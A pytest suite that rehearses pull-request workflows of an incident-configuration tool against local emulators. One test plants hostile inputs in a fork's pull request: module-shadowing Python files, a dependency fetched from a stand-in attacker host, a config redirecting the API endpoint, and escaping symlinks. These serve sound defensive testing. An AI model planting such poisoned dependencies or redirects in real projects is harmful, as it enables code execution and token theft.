"""A pull request in rehearsal: the workflows' own steps, run as they stand, against loopback alone.

Git, Graph, Entra and GitHub are servers on this machine; nothing of the tool is replaced.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest

from reconciler.pipeline import CHECK
from tests.support.cli import Shell
from tests.support.rehearsal import PIN, REF, TAGS, soc
from tests.support.repositories import git

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.rehearsal import Soc
    from tests.support.runner import Run

pytestmark = pytest.mark.rehearsal

OWN: Final = {"validate": "success", "plan": "success"}
APPLIED: Final = {
    "tenants": "success",
    "tenant (contoso) / plan": "success",
    "tenant (contoso) / apply": "success",
    "tenant (contoso) / record": "skipped",
}
NOTHING: Final = APPLIED | {
    "tenant (contoso) / apply": "skipped",
    "tenant (contoso) / record": "success",
}


@pytest.fixture
def team(tmp_path: Path) -> Iterator[Soc]:
    with soc(tmp_path) as found:
        found.hub.protect("contoso", "mona")
        yield found


def comments(team: Soc, number: int) -> list[str]:
    return team.hub.bodies(number)


def test_a_pull_request_from_its_plan_to_an_empty_one(team: Soc) -> None:
    number, opened = team.open(team.declare("3279", TAGS % "reviewed"))
    assert opened.results() == OWN, opened.log
    (first,) = comments(team, number)
    assert "3279" in first
    assert opened.jobs["plan"].summary

    updated = team.update(number, team.declare("3280", TAGS % "reviewed"))
    assert updated.results() == OWN, updated.log
    (second,) = comments(team, number)
    assert "3280" in second
    assert second != first
    assert (team.written(), team.applied()) == ([], "")
    assert team.identities() == {("pull_request", "reader")}

    seen: list[str] = []

    def mona(environment: str, run: Run) -> bool:
        seen.append(environment)
        assert "covered" in run.jobs["tenant (contoso) / plan"].summary
        assert team.written() == []
        return True

    team.runner.approve = mona
    merged = team.apply(team.merge(number))
    assert merged.results() == APPLIED, merged.log
    assert seen == ["contoso"]
    assert sorted(team.written()) == ["3279", "3280"]
    assert team.identities() == {
        ("pull_request", "reader"),
        ("ref:refs/heads/main", "reader"),
        ("environment:contoso", "writer"),
    }
    assert git(team.runner.bare(), "ls-tree", "--name-only", "-r", REF).split() == [
        "Incident/3279.json",
        "Incident/3280.json",
    ]
    journal = team.runner.artifacts[merged.id, "journal-contoso-1"] / "journal.jsonl"
    outcomes = [json.loads(line) for line in journal.read_text("utf-8").splitlines()]
    assert [line["type"] for line in outcomes].count("outcome") == 2

    before = team.applied()
    sha = team.commit({"README.md": "x"})
    team.share()
    again = team.apply(sha)
    assert again.results() == NOTHING, again.log
    assert (len(team.written()), team.applied()) == (2, before)


def test_what_is_found_as_declared_is_on_record_without_anybodys_approval(team: Soc) -> None:
    """Imported as it is: a later edit in the portal is then drift, and left to people."""
    team.portal("3279", customTags=["vip"])
    team.runner.approve = lambda _environment, _run: pytest.fail("nobody is asked")
    number, _ = team.open(team.declare("3279", TAGS % "vip"))

    run = team.apply(team.merge(number))

    assert run.results() == NOTHING, run.log
    assert git(team.runner.bare(), "ls-tree", "--name-only", "-r", REF) == "Incident/3279.json"
    assert team.identities() == {("pull_request", "reader"), ("ref:refs/heads/main", "reader")}
    assert team.written() == []


def test_a_pull_request_from_a_fork_is_validated_and_nothing_else(team: Soc) -> None:
    number, run = team.open(team.declare("3279", TAGS % "theirs"), fork="mallory/soc")

    assert run.results() == {"validate": "success", "plan": "skipped"}, run.log
    assert (comments(team, number), team.hub.writes, team.entra.asked) == ([], [], [])
    assert list(team.graph.history()) == []


def test_a_forks_bad_document_is_named_with_its_line(team: Soc) -> None:
    _, run = team.open(team.declare("3279", "{status: closed}"), fork="mallory/soc")

    assert run.jobs["validate"].failed == ["Validate"]
    assert "file=desired/contoso/3279.yaml,line=4,col=16::spec.status is" in run.log


def test_documents_that_are_not_valid_leave_no_older_plan_standing(team: Soc) -> None:
    number, _ = team.open(team.declare("3279", TAGS % "reviewed"))

    run = team.update(number, team.declare("3279", "{status: closed}"))

    assert run.results() == {"validate": "failure", "plan": "failure"}
    (comment,) = comments(team, number)
    assert "no plan" in comment.lower()


def test_nothing_of_a_pull_request_is_run_and_its_configuration_sends_no_token(
    team: Soc, tmp_path: Path
) -> None:
    """A package, start-up files, a configuration that leads elsewhere, links in the way of writes."""
    marker = tmp_path / "ran"
    evil = f"import pathlib; pathlib.Path({str(marker)!r}).touch(); raise SystemExit(0)\n"
    config = (team.desk / "reconciler.yaml").read_text("utf-8")
    files = team.declare("3279", TAGS % "reviewed")
    files |= {f"{name}.py": evil for name in ("sitecustomize", "usercustomize", "yaml", "httpx")}
    files |= {"reconciler/__init__.py": evil, "reconciler/cli/main.py": evil}
    files |= {"requirements.txt": f"evil @ git+https://mallory.example/x@{'0b' * 20}\n"}
    files |= {"requirements.lock": "evil\n", CHECK: evil}
    files |= {"reconciler.yaml": config.replace(team.graph.url, "http://127.0.0.1:9")}
    files |= {".reconciler/journal/contoso/x.jsonl": "{}", "plans": Path("../base")}

    _, run = team.open(files)

    assert run.results() == OWN, run.log
    assert not marker.exists()
    assert "::warning file=reconciler.yaml::The plan is made with the base branch's" in run.log
    for job in run.jobs.values():
        assert job.machine
        installed = (job.machine / "installed").read_text("utf-8").splitlines()
        made = f"{job.machine}/temp/reconciler"
        assert [line.removeprefix(f"{job.machine}/work/base: ") for line in installed] == [
            f"pip install --quiet --require-hashes --only-binary :all: --requirement {made}/locked.txt",
            f"pip install --quiet --no-deps --no-build-isolation --requirement {made}/tool.txt",
            "pip check",
        ]
        assert Path(f"{made}/tool.txt").read_text("utf-8") == PIN
    assert team.identities() == {("pull_request", "reader")}


@pytest.mark.parametrize("shape", ["link", "folder"])
def test_whatever_stands_where_reconciler_yaml_belongs_is_replaced(
    team: Soc, tmp_path: Path, shape: str
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "file").write_text("mine")
    ways: dict[str, str | Path] = {"reconciler.yaml": outside / "file"}
    if shape == "folder":
        ways = {"reconciler.yaml/inner.yaml": "x"}

    _, run = team.open(team.declare("3279", TAGS % "reviewed") | ways | {".reconciler": outside})

    assert run.jobs["plan"].result == "success", run.log
    assert "::warning file=reconciler.yaml::" in run.log
    assert [path.name for path in outside.iterdir()] == ["file"]
    assert (outside / "file").read_text() == "mine"


def test_what_init_writes_works_as_it_is_for_the_embedded_tenant_and_in_public(
    team: Soc, tmp_path: Path
) -> None:
    """Each job has an emulator of its own, and nobody's identity is asked for."""
    new = tmp_path / "new"
    new.mkdir()
    assert Shell(new).run("init", "--tenant", "demo") == 0
    files = {
        path.relative_to(new).as_posix(): path.read_text("utf-8")
        for path in new.rglob("*")
        if path.is_file()
    }
    team.commit(files | {"requirements.txt": PIN})
    team.share()
    team.hub.visibility = "public"
    team.hub.protect("demo", "mona")

    number, opened = team.open(team.declare("3249", "{assignedTo: null}", tenant="demo"))
    assert opened.results() == OWN, opened.log
    (comment,) = comments(team, number)
    assert "kai@contoso.com" not in comment + opened.log + opened.jobs["plan"].summary
    assert "redacted" in comment
    assert team.runner.artifacts == {}

    applied = team.apply(team.merge(number))
    ended = {name.replace("contoso", "demo"): result for name, result in APPLIED.items()}
    assert applied.results() == ended, applied.log
    assert git(team.runner.bare(), "ls-tree", "-r", "--name-only", REF.replace("contoso", "demo"))
    assert team.entra.asked == []
